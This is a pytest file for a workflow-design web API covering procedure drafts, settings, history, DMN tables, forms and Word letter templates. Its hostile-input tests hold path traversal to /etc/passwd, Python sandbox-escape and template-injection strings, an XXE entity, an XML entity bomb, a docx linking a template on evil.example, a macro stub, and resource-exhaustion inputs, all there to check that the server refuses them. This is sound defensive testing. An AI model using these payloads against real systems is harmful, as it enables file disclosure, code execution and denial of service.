"""The workbench by program: a procedure from nothing, its settings, history, tables, forms and letters."""

from __future__ import annotations

import base64
import io
import json
import threading
import uuid
import zipfile
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from docx import Document
from flask import Flask
from sqlalchemy import insert, select

from forms import letters
from registers.accounts import SYSTEM
from registers.parties import UserRole
from tests.conftest import World
from tests.runtime.models import chain, node, process, service
from tests.web.conftest import Api
from tests.web.test_api_path import play, scenario
from workflows import definitions, versionchecks, versionfiles

Person = Callable[[str], Api]
TITLE = {"zh": "咨询答复", "en": "Advice"}


@pytest.fixture
def draft(api: Person) -> str:
    """A new procedure of one task."""
    return str(api("sheji").post("/definitions/begin", {"procedure": "advice", "title": TITLE})["id"])


def sha(api: Person, draft: str) -> str:
    return str(api("sheji").get(f"/definitions/{draft}/settings")["sha256"])


def save(api: Person, draft: str, name: str, content: str, expected: str | None = None) -> Any:
    body = {"name": name, "content": content, "expected": expected or sha(api, draft)}
    return api("sheji").put(f"/definitions/{draft}/files", body)


def files(api: Person, draft: str) -> dict[str, str]:
    found: dict[str, str] = api("sheji").get(f"/definitions/{draft}")["files"]
    return found


# -- from nothing ---------------------------------------------------------------------------------------------------------


def test_a_procedure_begun_from_nothing_is_in_order_and_has_a_drawing(api: Person, world: World, draft: str) -> None:
    held = versionfiles.from_texts(files(api, draft))
    with world.rt.db.transaction() as conn:
        assert versionchecks.check(conn, held) == []
    assert files(api, draft)["process.bpmn"].count("BPMNShape ") == 4
    settings = json.loads(files(api, draft)["procedure.json"])
    assert (settings["title"], settings["start_task"], settings["forms"]) == (TITLE, "task_apply", ["remark"])


@pytest.mark.parametrize(
    ("given", "pointer"),
    [
        ({"procedure": "Not A Code"}, "procedure"),
        ({"procedure": "one_window"}, "procedure"),
        ({"title": {"zh": " ", "en": "x"}}, "title"),
        ({"starter": "audit_admin"}, "starter"),
        ({"lead_matter": "nothing"}, "lead_matter"),
    ],
)
def test_what_is_wrong_with_a_beginning_is_told_at_its_field(api: Person, given: dict[str, Any], pointer: str) -> None:
    answer = api("sheji").post("/definitions/begin", {"procedure": "advice", "title": TITLE, **given})
    assert (api("sheji").last.status_code in (409, 422), answer["pointer"]) == (True, pointer)


def test_only_designers_have_a_workbench(api: Person, draft: str) -> None:
    for login in ("qiye", "chuangkou", "shenji"):
        api(login).post("/definitions/begin", {"procedure": "mine", "title": TITLE})
        assert api(login).last.status_code == 403
        for place in ("settings", "history", "letters", "limits"):
            api(login).get(f"/definitions/{draft}/{place}")
            assert api(login).last.status_code == 403


# -- settings -------------------------------------------------------------------------------------------------------------


def test_named_settings_change_and_the_others_stay(api: Person, draft: str) -> None:
    facts = {"starters": ["window"], "summary": {"zh": "一问一答", "en": ""}, "letters": ["allowed_notice"]}
    changed = api("sheji").put(f"/definitions/{draft}/settings", {"facts": facts, "expected": sha(api, draft)})
    settings = changed["settings"]
    assert (settings["starters"], settings["summary"]["en"]) == (["window"], "一问一答")
    assert (settings["start_task"], settings["title"]) == ("task_apply", TITLE)


@pytest.mark.parametrize(
    "facts",
    [
        {"nothing": 1},
        {"starters": ["god"]},
        {"lanes": {"窗口": "god"}},
        {"variables": {"__import__": "object", "a b": "object"}},
        {"variables": {"a": "code"}},
        {"letters": ["../../etc/passwd"]},
        {"letter_values": {"project_name": "__class__.__mro__()"}},
        {"guide": {"basis": ["NOLAW:1"]}},
        {"guide": {"limits": ["no.limit"]}},
        {"applicant": "perhaps"},
    ],
)
def test_a_setting_that_cannot_be_is_refused_and_nothing_changes(
    api: Person, draft: str, facts: dict[str, Any]
) -> None:
    before = sha(api, draft)
    answer = api("sheji").put(f"/definitions/{draft}/settings", {"facts": facts, "expected": before})
    assert (api("sheji").last.status_code, answer["pointer"]) == (422, next(iter(facts)))
    assert sha(api, draft) == before


# -- history --------------------------------------------------------------------------------------------------------------


def test_every_earlier_state_of_a_draft_can_be_read_and_taken_back(api: Person, world: World, draft: str) -> None:
    first = files(api, draft)
    save(api, draft, "process.bpmn", chain(node("userTask", "one", role="window")).decode())
    second = files(api, draft)
    form = json.loads(first["forms/remark.json"]) | {"title": {"zh": "改过", "en": "Changed"}}
    save(api, draft, "forms/remark.json", json.dumps(form))
    changes = api("sheji").get(f"/definitions/{draft}/history")["changes"]
    assert [(one["name"], one["person"]) for one in changes] == [
        ("forms/remark.json", world.actor("sheji").name),
        ("process.bpmn", world.actor("sheji").name),
    ]
    earliest = api("sheji").get(f"/definitions/{draft}/history/{changes[1]['id']}")
    assert earliest["files"] == first
    assert {"one", "task_apply"} <= {one["id"] for one in earliest["differences"]}
    for change, wanted in ((changes[0], second), (changes[1], first)):
        api("sheji").post(f"/definitions/{draft}/history/{change['id']}/restore", {"expected": sha(api, draft)})
        assert files(api, draft) == wanted
    # Going back is a change too: what was there before it can be had again.
    newest = api("sheji").get(f"/definitions/{draft}/history")["changes"][0]
    api("sheji").post(f"/definitions/{draft}/history/{newest['id']}/restore", {"expected": sha(api, draft)})
    assert files(api, draft) == second


def test_saves_in_quick_succession_are_one_change_and_later_ones_another(api: Person, world: World, draft: str) -> None:
    for number in range(3):
        save(api, draft, "process.bpmn", chain(node("userTask", f"n{number}", role="window")).decode())
    assert len(api("sheji").get(f"/definitions/{draft}/history")["changes"]) == 1
    world.time.instant += timedelta(minutes=6)
    save(api, draft, "process.bpmn", chain(node("userTask", "later", role="window")).decode())
    assert len(api("sheji").get(f"/definitions/{draft}/history")["changes"]) == 2


def test_nobody_goes_back_over_somebody_elses_later_work(api: Person, draft: str) -> None:
    before = sha(api, draft)
    save(api, draft, "process.bpmn", chain(node("userTask", "one", role="window")).decode())
    change = api("sheji").get(f"/definitions/{draft}/history")["changes"][0]["id"]
    api("sheji").post(f"/definitions/{draft}/history/{change}/restore", {"expected": before})
    assert api("sheji").last.status_code == 409
    assert 'id="one"' in files(api, draft)["process.bpmn"]


def test_a_published_version_has_no_way_to_be_changed(api: Person, world: World, draft: str) -> None:
    save(api, draft, "process.bpmn", files(api, draft)["process.bpmn"].replace("提出申请", "申请咨询"))
    change = api("sheji").get(f"/definitions/{draft}/history")["changes"][0]["id"]
    expected = sha(api, draft)
    held = files(api, draft)
    with world.rt.db.transaction() as conn:
        definitions.publish(conn, SYSTEM, uuid.UUID(draft), world.time.today(), world.time.now())
    for path, body in (
        (f"/definitions/{draft}/history/{change}/restore", {"expected": expected}),
        (f"/definitions/{draft}/settings", {"facts": {"starters": []}, "expected": expected}),
    ):
        (api("sheji").post if "restore" in path else api("sheji").put)(path, body)
        assert api("sheji").last.status_code == 409
    assert files(api, draft) == held


# -- decision tables ------------------------------------------------------------------------------------------------------

HEAD = '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="x">'


def table(policy: str, *rows: tuple[str, str, str]) -> str:
    rules = "".join(
        f'<rule id="r{n}"><description>{cite}</description><inputEntry id="i{n}"><text>{cell}</text></inputEntry>'
        f'<outputEntry id="o{n}"><text>{out}</text></outputEntry></rule>'
        for n, (cell, out, cite) in enumerate(rows, 1)
    )
    return (
        f'{HEAD}<decision id="route" name="route"><decisionTable id="t" hitPolicy="{policy}"><input id="in" label="吨数">'
        '<inputExpression id="e" typeRef="number"><text>application.tons</text></inputExpression></input>'
        f'<output id="out" name="way" typeRef="string"/>{rules}</decisionTable></decision></definitions>'
    )


def test_overlapping_rules_and_gaps_are_told_with_the_rows_and_an_example(api: Person) -> None:
    content = table("UNIQUE", ("&lt; 10", '"small"', "甲条"), ("[5..20]", '"middle"', "乙条"))
    told = api("sheji").post("/tables/check", {"content": content})["decisions"][0]
    assert [one["ids"] for one in told["overlaps"]] == [["r1", "r2"]]
    assert told["gaps_decided"] is True
    (gap,) = told["gaps"]
    name, _, value = gap.partition(" = ")
    assert name == "application.tons"
    assert not float(value) < 10
    assert not 5 <= float(value) <= 20


def test_a_test_row_says_which_rules_fire_with_their_citation(api: Person) -> None:
    content = table("FIRST", ("&lt; 10", '"small"', "甲条"), ("-", '"large"', "乙条"))
    for value, index, cite, way in (("3", 1, "甲条", "small"), ("10", 2, "乙条", "large")):
        body = {"content": content, "decision": "route", "values": [value]}
        told = api("sheji").post("/tables/check", body)["test"]
        assert [(one["index"], one["description"]) for one in told["fired"]] == [(index, cite)]
        assert told["outputs"] == {"way": way}


def test_rules_that_clash_in_a_test_row_say_so(api: Person) -> None:
    content = table("UNIQUE", ("&lt; 10", '"a"', ""), ("&lt; 20", '"b"', ""))
    told = api("sheji").post("/tables/check", {"content": content, "decision": "route", "values": ["3"]})["test"]
    assert "UNIQUE" in told["error"]["en"]


def test_a_gap_is_a_warning_of_the_linter_too(api: Person, draft: str) -> None:
    answer = save(api, draft, "route.dmn", table("FIRST", ("&lt; 10", '"small"', "")))
    told = {(one["code"], one["severity"], one["file"]) for one in answer["findings"]}
    assert told == {("dmn.gap", "warning", "route.dmn")}


# -- forms ----------------------------------------------------------------------------------------------------------------


def test_a_form_that_is_wrong_is_refused_with_its_place_and_the_draft_stays(api: Person, draft: str) -> None:
    form = json.loads(files(api, draft)["forms/remark.json"])
    form["sections"][0]["fields"][0]["type"] = "colour"
    before = sha(api, draft)
    for answer in (
        save(api, draft, "forms/remark.json", json.dumps(form)),
        api("sheji").post(f"/definitions/{draft}/forms/remark/check", {"content": json.dumps(form)}),
    ):
        assert answer["pointer"] == "sections.0.fields.0.type"
    assert sha(api, draft) == before


def test_a_change_of_a_form_tells_which_drafts_it_touches_and_what_is_asked_again(api: Person, world: World) -> None:
    play(world, api, {**scenario("会办三个部门"), "steps": []})
    running = api("qiye").get("/tasks")["tasks"][0]
    form_id = api("qiye").get(f"/tasks/{running['id']}")["form_id"]
    version = next(one for one in api("sheji").get("/definitions") if one["procedure"] == "one_window")
    made = api("sheji").post(f"/definitions/{version['id']}/copy")["id"]
    form = json.loads(files(api, made)[f"forms/{form_id}.json"])
    data = {"remark": "x"} if form_id == "remark" else {form["sections"][0]["fields"][0]["name"]: "某项目"}
    api("qiye").put(f"/tasks/{running['id']}/draft", {"data": data})
    told = api("sheji").post(f"/definitions/{made}/forms/{form_id}/check", {"content": json.dumps(form)})
    assert (told["tasks"], told["asked"]) == (1, [])
    fresh = {"name": "brand_new", "type": "text", "required": True, "label": {"zh": "新问题", "en": "New"}}
    form["sections"][0]["fields"] = [fresh, *form["sections"][0]["fields"][1:]]
    told = api("sheji").post(f"/definitions/{made}/forms/{form_id}/check", {"content": json.dumps(form)})
    assert (told["tasks"], told["drafts"]) == (1, 1)
    assert ("brand_new", "new", 1) in [(one["name"], one["why"], one["drafts"]) for one in told["asked"]]
    assert (next(iter(data)), "removed", 1) in [(one["name"], one["why"], one["drafts"]) for one in told["asked"]]


# -- letters --------------------------------------------------------------------------------------------------------------


def word(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    row = document.add_table(rows=1, cols=2).rows[0]
    row.cells[1].text = "{{date}}"
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def upload(api: Person, draft: str, name: str, content: bytes) -> Any:
    person = api("sheji")
    sent = {"file": (io.BytesIO(content), "x.docx"), "expected": sha(api, draft)}
    headers = {"Authorization": f"Bearer {person.token}", "Idempotency-Key": str(uuid.uuid4())}
    return person.client.post(f"/api/v1/definitions/{draft}/letters/{name}", data=sent, headers=headers)


def test_a_template_is_kept_with_the_version_and_its_placeholders_are_told_with_places(api: Person, draft: str) -> None:
    own = word("通知", "{{enterprise_name}}：", "{{?demands}}要求：{{demands}}")
    assert upload(api, draft, "allowed_notice", own).status_code == 200
    assert base64.b64decode(files(api, draft)["letters/allowed_notice.docx"]) == own
    (letter,) = api("sheji").get(f"/definitions/{draft}/letters")["letters"]
    places = {one["name"]: [place["zh"] for place in one["places"]] for one in letter["placeholders"]}
    assert places["enterprise_name"] == ["正文第2段"]
    assert places["date"] == ["表1第1行第2列"]
    assert places["case_number"] == []


def test_unknown_placeholders_are_refused_with_name_and_place(api: Person, draft: str) -> None:
    answer = upload(api, draft, "allowed_notice", word("{{enterprise_name}}", "{{no_such}} {{ date.__class__ }}"))
    assert answer.status_code == 422
    assert [(one["token"], one["zh"]) for one in answer.get_json()["errors"]] == [
        ("{{no_such}}", "正文第2段"),
        ("{{ date.__class__ }}", "正文第2段"),
    ]
    assert "letters/allowed_notice.docx" not in files(api, draft)


def test_what_is_no_harmless_word_file_is_refused(api: Person, draft: str) -> None:
    good = word("{{enterprise_name}}")
    linked = io.BytesIO(good)
    with zipfile.ZipFile(linked, "a") as packed:
        packed.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>',
        )
    macro = io.BytesIO(good)
    with zipfile.ZipFile(macro, "a") as packed:
        packed.writestr("word/vbaProject.bin", b"x")
    for content in (b"PK nothing", b"", b"x" * 3_000_000, linked.getvalue(), macro.getvalue()):
        answer = upload(api, draft, "allowed_notice", content)
        assert (answer.status_code, answer.get_json()["code"]) == (422, "letter_file")


def test_a_preview_is_filled_from_a_case_one_may_see_and_stores_nothing(api: Person, world: World) -> None:
    case_id = play(world, api, scenario("同时办理：报告表＋简化管理"))
    case = api("qiye").get(f"/cases/{case_id}")
    version = next(one for one in api("sheji").get("/definitions") if one["procedure"] == "one_window")["id"]
    blank = api("sheji").raw(f"/definitions/{version}/letters/eia_approval/preview.docx")
    assert "〔项目名称〕" in _words(blank.data)
    # A designer of the body holds no case of it: the case does not exist for that person.
    assert (
        api("sheji").raw(f"/definitions/{version}/letters/eia_approval/preview.docx?case={case_id}").status_code == 404
    )
    with world.rt.db.transaction() as conn:
        _lend_designer(conn, world, "shencha")
    filled = api("shencha").raw(f"/definitions/{version}/letters/eia_approval/preview.docx?case={case_id}")
    assert filled.status_code == 200
    assert case["enterprise"]["name"] in _words(filled.data)
    assert "〔项目名称〕" not in _words(filled.data)
    assert len(api("qiye").get(f"/cases/{case_id}")["letters"]) == len(case["letters"])


def _lend_designer(conn: Any, world: World, login: str) -> None:
    person = world.actor(login).id
    body = conn.scalar(select(UserRole.body_id).where(UserRole.user_id == person))
    conn.execute(insert(UserRole).values(id=uuid.uuid4(), user_id=person, role="designer", body_id=body))


def _words(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def test_every_letter_of_the_house_can_be_looked_at_without_a_case(api: Person, draft: str) -> None:
    for name in letters.names():
        answer = api("sheji").raw(f"/definitions/{draft}/letters/{name}/preview.docx")
        assert answer.status_code == 200, name
        assert "{{" not in _words(answer.data), name


# -- limits and roles -----------------------------------------------------------------------------------------------------


def test_limits_and_roles_of_a_version_are_told_with_steps_and_people(api: Person, draft: str) -> None:
    model = chain(
        node("userTask", "check", role="reviewer", limitRule="permit.deficiency"), node("userTask", "nobody", role="")
    )
    save(api, draft, "process.bpmn", model.decode())
    told = api("sheji").get(f"/definitions/{draft}/limits")
    assert [(one["code"], one["steps"]) for one in told["limits"]] == [("permit.deficiency", ["check"])]
    assert "行政许可法" in told["limits"][0]["rule"] or "排污许可" in told["limits"][0]["rule"]
    staff = {one["role"]: sum(row["people"] for row in one["staff"]) for one in told["roles"]}
    assert staff["reviewer"] >= 2
    assert staff[""] == 0


# -- hostile models -------------------------------------------------------------------------------------------------------

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><b>&j;</b>"
)


CLOSE = (
    '<bpmn:extensionElements><spiffworkflow:serviceTaskOperator id="case.close"><spiffworkflow:parameters>'
    '<spiffworkflow:parameter id="outcome" type="any" value="1"/></spiffworkflow:parameters>'
    "</spiffworkflow:serviceTaskOperator></bpmn:extensionElements>"
)


def fan_out() -> str:
    """A chain of parallel gateways that doubles the tokens thirty times."""
    nodes, flows, last = [], [], "begin"
    for step in range(30):
        nodes.append(f'<bpmn:parallelGateway id="split{step}"/>')
        nodes.append(f'<bpmn:exclusiveGateway id="merge{step}"/>')
        flows += [(last, f"split{step}")]
        nodes += [f'<bpmn:serviceTask id="t{step}_{side}">{CLOSE}</bpmn:serviceTask>' for side in (0, 1)]
        for side in (0, 1):
            flows += [(f"split{step}", f"t{step}_{side}"), (f"t{step}_{side}", f"merge{step}")]
        last = f"merge{step}"
    nodes = ['<bpmn:startEvent id="begin"/>', *nodes, '<bpmn:endEvent id="finish"/>']
    return process(nodes, [*flows, (last, "finish")]).decode()


HOSTILE = {
    "script": chain('<bpmn:scriptTask id="s" name="s"><bpmn:script>import os</bpmn:script></bpmn:scriptTask>').decode(),
    "bomb": BOMB,
    "entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "fan out": fan_out(),
    "expression": chain(service("s", "case.close", outcome="().__class__.__bases__[0].__subclasses__()")).decode(),
    "power": chain(service("s", "case.close", outcome="9**9**9**9")).decode(),
    "deep": "<a>" * 5000 + "</a>" * 5000,
    "large": chain(node("userTask", "t", role="window")).decode().replace("targetNamespace", "x='" + "y" * 1_100_000 + "' targetNamespace"),
    "many": process(
        ['<bpmn:startEvent id="begin"/>', *(f'<bpmn:userTask id="t{n}"/>' for n in range(9000)), '<bpmn:endEvent id="finish"/>'],
        [("begin", "finish")],
    ).decode(),
}  # fmt: skip


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_hostile_model_is_refused_with_words_while_the_server_goes_on(
    app: Flask, api: Person, draft: str, kind: str
) -> None:
    answers: list[int] = []

    def ask() -> None:
        answers.append(app.test_client().get("/healthz").status_code)

    asking = threading.Thread(target=ask)
    asking.start()
    answer = save(api, draft, "process.bpmn", HOSTILE[kind])
    asking.join()
    assert answers == [200]
    if api("sheji").last.status_code == 200:
        errors = [one for one in answer["findings"] if one["severity"] == "error"]
        assert errors
        assert all(one["zh"] and one["en"] and one["fix_zh"] and one["fix_en"] for one in errors)
        api("sheji").post(f"/definitions/{draft}/publish", {})
        assert api("sheji").last.status_code in (403, 409, 422)
    else:
        assert api("sheji").last.status_code in (413, 422)
        assert answer["title"]
        assert "Traceback" not in json.dumps(answer)


def test_a_hostile_table_or_form_is_refused_with_words(api: Person, draft: str) -> None:
    wide = table("UNIQUE", *((f"&gt; {n}", '"x"', "") for n in range(900)))
    for content in (BOMB, "<" * 1000, wide, table("FIRST", ("?.__class__", '"x"', "")), "[" * 100_000):
        answer = api("sheji").post("/tables/check", {"content": content})
        assert api("sheji").last.status_code in (200, 422)
        assert answer.get("title") or answer["findings"]
    deep = '{"all":[' * 3000 + "]}" * 3000
    for content in ("[" * 100_000, "{}", deep, json.dumps({"id": "x", "title": "x", "sections": [{"id": deep}]})):
        answer = api("sheji").post(f"/definitions/{draft}/forms/remark/check", {"content": content})
        assert (api("sheji").last.status_code, bool(answer["title"])) == (422, True)
